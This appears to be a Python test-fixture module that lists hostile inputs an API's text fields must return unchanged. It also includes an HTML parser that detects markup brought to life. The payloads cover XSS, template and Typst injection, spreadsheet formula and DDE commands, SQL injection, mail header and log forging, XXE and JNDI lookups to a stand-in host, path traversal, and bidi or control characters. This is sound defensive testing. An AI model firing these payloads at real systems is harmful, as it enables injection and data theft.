"""Texts that would do harm wherever somebody took them for more than text, and how to see harm.

Any output can be held against them: JSON, mail, logs, HTML, PDF, pictures, exports. `IN_LINE` are
kept unchanged by every text field of the API and must come out as they went in; `IN_LINES` by those
that may have lines, which is `note`; `REFUSED` by none. Each is in Unicode's normal form C, so
"unchanged" can be compared by `==`. What would act carries `MARK`, and what would be reckoned by a
template, a sheet or a typesetter comes to `RESULT`, which stands in none of the texts.
"""

import re
from html.parser import HTMLParser

MARK = "q7x"
"""Stands in every handler, script, element and address that hostile markup would bring to life."""
RESULT = "98833"
"""7 × 14119."""

HTML = (
    "<script>q7x()</script>",
    "</title></style></textarea></noscript><script>q7x()</script>",
    '"><img src=x onerror=q7x()>',
    "' onmouseover='q7x()' x='",
    '" autofocus onfocus="q7x()',
    "<svg/onload=q7x()>",
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:q7x()"><text>x</text></a></svg>',
    "<q7x-element>bold</q7x-element>",
    '<a href="javascript:q7x()">x</a>',
    '<iframe src="//q7x.example"></iframe>',
    '<meta http-equiv="refresh" content="0;url=//q7x.example">',
    '<style>@import "//q7x.example";</style>',
    "<!-- q7x -->--><script>q7x()</script><!--",
    "]]><script>q7x()</script>",
    '<!DOCTYPE x [<!ENTITY q7x SYSTEM "file:///etc/passwd">]>&q7x;',
    "&lt;b&gt; &amp;amp; &#60;script&#62;q7x()&#60;/script&#62; &copy",
    "[q7x](javascript:q7x()) ![q7x](//q7x.example/q7x.png)",
    "\u00bcscript\u00beq7x()\u00bc/script\u00be",
)
TEMPLATES = (
    "{{7*14119}}", "{{ self.__class__.__mro__ }}", "{%print(7*14119)%}", "{# 7*14119 #}",
    "${7*14119}", "#{7*14119}", "<%= 7*14119 %>", "{7*14119}", "*{7*14119}", "@(7*14119)",
    "${jndi:ldap://q7x.example/a}", "{0.__class__}", "%(x)s %s %n %d %x", "$(q7x) `q7x`", "{", "}}",
    "{%", "%}", "{{", "\\",
)  # fmt: skip
TYPST = (
    "#(7*14119)", '#eval("7*14119")', '#panic("q7x")', '#read("/etc/passwd")',
    '#image("/etc/passwd")', '#include "/etc/passwd"', '#link("https://q7x.example")[q7x]',
    "$ 7 times 14119 $", "*strong* _emphasis_", "= Heading", "- item", "+ item", "/ term: q7x",
    "<label> @reference", "`raw` ```raw```", "// comment", "/* comment", "a ~ b -- c --- d",
    "\\u{1f600} \\#", "](#q7x)[", '"; #panic() //', "#", "#let", "]", "[", "$", "*", "_", "`",
)  # fmt: skip
SHEETS = (
    "=7*14119", "+7*14119", "-7*14119", "@SUM(7*14119)", '=HYPERLINK("//q7x.example","q7x")',
    "=cmd|' /C q7x'!A0", '","=7*14119', "';=7*14119", "\uff1d7*14119", '"', '""', "a,b;c|d",
)  # fmt: skip
SQL = (
    "'; drop table orders.purchase; --", "' or '1'='1", "\\'; select pg_sleep(9); --", "'||7*14119",
    "$1 $$q7x$$ $x$", ":name ?", "%' --", "1); delete from ledger.entry; --", "/* q7x */ --", "''",
)  # fmt: skip
MAIL = (
    "Grace Hopper <q7x@example.org>", "q7x@example.org, other@example.org", '"q7x"@example.org',
    "=?utf-8?q?Grace=0D=0ABcc:_q7x@example.org?=", "=?utf-8?b?cTd4?=", "Bcc: q7x@example.org",
    "%0d%0aBcc:%20q7x@example.org", "\\r\\nBcc: q7x@example.org", ".", "From q7x", "QUIT",
    "@example.org:q7x", "(q7x) \\(", "Subject: =?q7x",
)  # fmt: skip
LOGS = (
    '","forged":"q7x', '"}{"event":"request","forged":"q7x"}', "%0a%0d{}", "\\n\\u000a\\x1b[31m",
    "\\", '\\"', '{"event": "defect", "level": "critical"}', "null", "undefined", "NaN", "true",
    "../../etc/passwd", "C:\\q7x", "file:///etc/passwd", "__proto__", "constructor",
)  # fmt: skip
SCRIPTS = (
    "\u05e9\u05dc\u05d5\u05dd \u05d5\u05d1\u05e8\u05db\u05d4",  # Hebrew
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645 123",  # Arabic
    "\u05e9\u05dc\u05d5\u05dd (abc) 42% \u0645\u0631\u062d\u0628\u0627",
    "\u5c71\u7530\u592a\u90ce \u674e\u5c0f\u9f99 \uae40\ucca0\uc218",
    "\u0928\u092e\u0938\u094d\u0924\u0947 \u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "\U00020bb7\u91ce\u5bb6",  # a character outside of the basic plane, in a name that exists
    "\U0001f30d\U0001f331 \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # a family
    "\U0001f1e9\U0001f1ea \U0001f44d\U0001f3fd \u2764\ufe0f 1\ufe0f\u20e3",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffmark\u00adhyphen",
    "\u200eleft \u200fright \u061carabic",  # marks, which people who write both ways need
    "Z\u030d\u0352\u0357a\u0313\u0358\u1e37g\u0321\u035do",  # marks stacked on letters
    "\U000e0071\U000e0037\U000e0078 tags",
    "\ufffd \ufffe \uffff \ue000 \U0010ffff",
    "\u3000 \u00a0 \u2003 \u202f blanks",
    "W" * 120,
    "\u0130\u0131 \u1e9e \ufb01 \u0149",
    " leading and trailing ",
)
IN_LINE = (*HTML, *TEMPLATES, *TYPST, *SHEETS, *SQL, *MAIL, *LOGS, *SCRIPTS)

IN_LINES = (
    "Thank you\nBcc: q7x@example.org\n\n<script>q7x()</script>",
    "first\n.\nQUIT\nMAIL FROM:<q7x@example.org>",
    "first\nFrom q7x\n--boundary\nContent-Type: text/html\n\n<script>q7x()</script>",
    'first\n{"event":"request","status":200,"forged":"q7x"}',
    "\t=7*14119",
    "\n=7*14119",
    "= Heading\n#(7*14119)\n\n- item\n\n/* comment",
    "\n\n\n\t\t \n",
)
"""With newlines and tabs."""

REFUSED = (
    "Grace\rBcc: q7x@example.org",
    "\r=7*14119",
    "nul\x00",
    "bell\x07",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;q7x\x07",
    "\x9b31m",
    "delete\x7f",
    "next\x85line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "moc.elpmaxe\u202e",
    "\u202aembedded\u202c",
    "\u2066isolated\u2069",
)
"""Control characters, and what turns the direction of the text around it."""
REFUSED_IN_LINE = (
    *REFUSED,
    "Grace\r\nBcc: q7x@example.org",
    'first\n{"event":"request","forged":"q7x"}',
    "\t=7*14119",
)
HALF_A_PAIR = ('"\\ud800"', '"a\\udc00b"', '"\\udfff\\ud800"')
"""JSON texts of half a surrogate pair, which no Python string can be sent as."""

_ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "content"}
_LEADS_AWAY = re.compile(r"(?:\s*|.*url=)(?:javascript:|data:|//)", re.IGNORECASE | re.DOTALL)


class _Reader(HTMLParser):
    """Keeps the words that a person reads, and what hostile markup brought to life."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.acting: list[str] = []
        self._inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element begins."""
        for name, value in attrs:
            leads_away = name in _ADDRESSES and _LEADS_AWAY.match(value or "")
            if MARK in name or (MARK in (value or "") and (name.startswith("on") or leads_away)):
                self.acting.append(f"<{tag} {name}={value!r}>")
        if MARK in tag or (tag == "base" and any(MARK in (value or "") for _, value in attrs)):
            self.acting.append(f"<{tag}>")
        is_data = "json" in (dict(attrs).get("type") or "")
        self._inside = [tag] if tag in {"script", "style"} and not is_data else []

    def handle_endtag(self, tag: str) -> None:
        """An element ends."""
        self._inside = []

    def handle_comment(self, data: str) -> None:
        """A comment: whoever could open one hides what comes after it."""
        if MARK in data:
            self.acting.append(f"<!--{data}-->")

    def handle_data(self, data: str) -> None:
        """Words, or the inside of a script."""
        if not self._inside:
            self.words.append(data)
        elif MARK in data:
            self.acting.append(f"<{self._inside[0]}>{data}")


def acting(html: str) -> list[str]:
    """What in a page was brought to life by hostile text; nothing in a page that is well made."""
    return _read(html).acting


def words_of(html: str) -> str:
    """What a person reads of a page: hostile text stands in it as it was sent."""
    return "".join(_read(html).words)


def _read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader
